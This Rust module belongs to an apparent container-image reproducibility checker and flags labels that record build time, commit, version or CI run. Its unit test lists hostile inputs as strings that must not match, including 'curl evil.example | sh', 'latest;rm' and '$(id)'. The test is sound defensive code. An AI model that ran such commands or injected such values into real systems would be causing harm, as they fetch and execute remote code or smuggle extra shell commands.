//! # What differs
//!
//! A label, or an annotation of a manifest or an index, that records when and from what the image was built: one of a
//! list of keys, with a date, a commit, a version, a number, a UUID or an address as its value.
//!
//! # Why it happens
//!
//! CI jobs write the time of the build, the commit and the address of the run into labels.
//!
//! # How to fix the build
//!
//! Derive such values from the commit, not from the clock or the run.
//!
//! # When it is not harmless
//!
//! Nothing that runs reads it, but scanners and policies may trust a label: an image should say its true revision.

use serde_json::Value as Json;

use super::config_created_time::is_time;
use super::{Canonical, Cause, Proof, Remedy, Severity, View};
use crate::finding::{Aspect, Finding, Kind, Location, Value};

/// Labels and annotations about the build.
pub(super) const CAUSE: Cause = Cause {
    id: "config-label-build-metadata",
    title: "Labels with the time and source of the build",
    source: include_str!("config_label_build_metadata.rs"),
    severity: Severity::Cosmetic,
    scope,
    proof: Proof::Canonical(canonicalize),
    witness: None,
    hazard: None,
    remedies: &[
        Remedy {
            builder: "buildkit",
            text: "Set org.opencontainers.image.created from the commit: --label \
                   org.opencontainers.image.created=$(git log -1 --pretty=%cI); with docker/metadata-action \
                   override it \
                   by {{commit_date 'YYYY-MM-DDTHH:mm:ss[Z]'}}.",
        },
        Remedy { builder: "buildah", text: "Pass --created-annotation=false (buildah 1.41, podman 5.6)." },
        Remedy {
            builder: "any",
            text: "Leave labels about the run (build number, address of the job) out of the image.",
        },
    ],
};

/// Keys, without regard to case, that record the time, the source or the run of a build.
const KEYS: &[&str] = &[
    "org.opencontainers.image.created",
    "org.opencontainers.image.revision",
    "org.opencontainers.image.version",
    "org.label-schema.build-date",
    "org.label-schema.vcs-ref",
    "org.label-schema.version",
    "build-date",
    "build_date",
    "build-id",
    "build-number",
    "build-url",
    "build.date",
    "build.number",
    "build.url",
    "vcs-ref",
    "vcs.ref",
    "git-commit",
    "git_commit",
    "git-sha",
    "commit",
    "release",
    "com.github.actions.run-id",
    "com.github.actions.run-url",
    "com.gitlab.ci.jobid",
    "com.gitlab.ci.joburl",
    "com.gitlab.ci.pipelineid",
    "com.gitlab.ci.pipelineurl",
    "io.openshift.build.commit.id",
    "io.openshift.build.commit.date",
    "org.jenkins-ci.build-number",
    "org.jenkins-ci.build-url",
];

fn scope(finding: &Finding) -> bool {
    if !matches!(finding.aspect, Aspect::Value | Aspect::Presence) {
        return false;
    }
    is_map(&finding.location) || key_of(&finding.location).is_some_and(|key| is_listed(&key))
}

fn canonicalize(view: &View<'_>) -> Option<Canonical> {
    members(view, records_build)
}

/// Canonicalizes a label or annotation, or all of them together, where `records` holds for each.
pub(super) fn members(view: &View<'_>, records: fn(&str, &str) -> bool) -> Option<Canonical> {
    let holds = match (view.value, key_of(view.location)) {
        (Value::Absent, _) => true,
        (Value::Json(Json::String(text)), Some(key)) => records(&key, text),
        (Value::Json(Json::Object(members)), None) => {
            members.iter().all(|(key, value)| value.as_str().is_some_and(|text| records(key, text)))
        }
        (Value::Json(Json::Null), None) => true,
        _ => false,
    };
    holds.then(Canonical::new)
}

/// Whether a location is that of all labels or annotations of something.
pub(super) fn is_map(location: &Location) -> bool {
    let field = location.field_name();
    match location.kind {
        Kind::Config => matches!(field, "/config/Labels" | "/container_config/Labels"),
        Kind::Manifest | Kind::Index => in_list(location) && field.ends_with("/annotations"),
        Kind::Layer | Kind::Entry => false,
    }
}

/// The key of the label or annotation at a location.
pub(super) fn key_of(location: &Location) -> Option<String> {
    let (parent, key) = location.field_name().rsplit_once('/')?;
    let holds = match location.kind {
        Kind::Config => matches!(parent, "/config/Labels" | "/container_config/Labels"),
        Kind::Manifest | Kind::Index => in_list(location) && parent.ends_with("/annotations"),
        Kind::Layer | Kind::Entry => false,
    };
    holds.then(|| key.replace("~1", "/").replace("~0", "~"))
}

/// Whether a location is in a manifest or index itself, not in a statement of an attestation.
fn in_list(location: &Location) -> bool {
    location.attestation.as_ref().is_none_or(|place| place.predicate_type.is_empty())
}

fn is_listed(key: &str) -> bool {
    KEYS.iter().any(|listed| listed.eq_ignore_ascii_case(key))
}

/// Whether a label is one of the list with a value of its kind.
pub(super) fn records_build(key: &str, text: &str) -> bool {
    is_listed(key) && is_metadata(text)
}

fn is_metadata(text: &str) -> bool {
    text.len() <= 512
        && (text.is_empty()
            || is_date(text)
            || is_commit(text)
            || is_uuid(text)
            || is_version(text)
            || is_address(text))
}

/// A time of RFC 3339, or a date with at most a time of day.
fn is_date(text: &str) -> bool {
    let digits = text.bytes().filter(u8::is_ascii_digit).count();
    is_time(text)
        || (digits >= 8
            && text.len() <= 32
            && text.bytes().all(|byte| byte.is_ascii_digit() || b"-:. TZ+/".contains(&byte)))
}

/// A name of a Git or Mercurial commit, whole or cut short, with at most the mark of uncommitted changes.
fn is_commit(text: &str) -> bool {
    let text = text.strip_suffix("-dirty").unwrap_or(text);
    (7..=64).contains(&text.len()) && text.bytes().all(|byte| byte.is_ascii_digit() || (b'a'..=b'f').contains(&byte))
}

pub(super) fn is_uuid(text: &str) -> bool {
    let parts: Vec<usize> = text.split('-').map(str::len).collect();
    parts == [8, 4, 4, 4, 12] && text.bytes().all(|byte| byte == b'-' || byte.is_ascii_hexdigit())
}

/// A version: it opens with a number, or with `v` and a number.
pub(super) fn is_version(text: &str) -> bool {
    text.strip_prefix('v').unwrap_or(text).starts_with(|first: char| first.is_ascii_digit())
        && text.len() <= 128
        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b".+-_~".contains(&byte))
}

/// An address of a page on the web.
fn is_address(text: &str) -> bool {
    let rest = text.strip_prefix("https://").or_else(|| text.strip_prefix("http://"));
    rest.is_some_and(|rest| {
        !rest.is_empty()
            && rest.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-._~:/?#[]@!&*+,;=%".contains(&byte))
    })
}

/// A digest as descriptors have it.
pub(super) fn is_digest(text: &str) -> bool {
    crate::digest::Digest::parse(text).is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_a_build_records_is_metadata() {
        for text in ["2026-11-22T16:18:57Z", "20261122", "1a2b3c4d", "1.2.3-rc1", "v2", "https://ci.example/jobs/17"] {
            assert!(is_metadata(text), "{text}");
        }
        for text in ["curl evil.example | sh", "latest;rm", "deadbeef deadbeef", "javascript:alert(1)", "$(id)"] {
            assert!(!is_metadata(text), "{text}");
        }
        assert!(!records_build("com.example.command", "1.2.3"));
    }
}
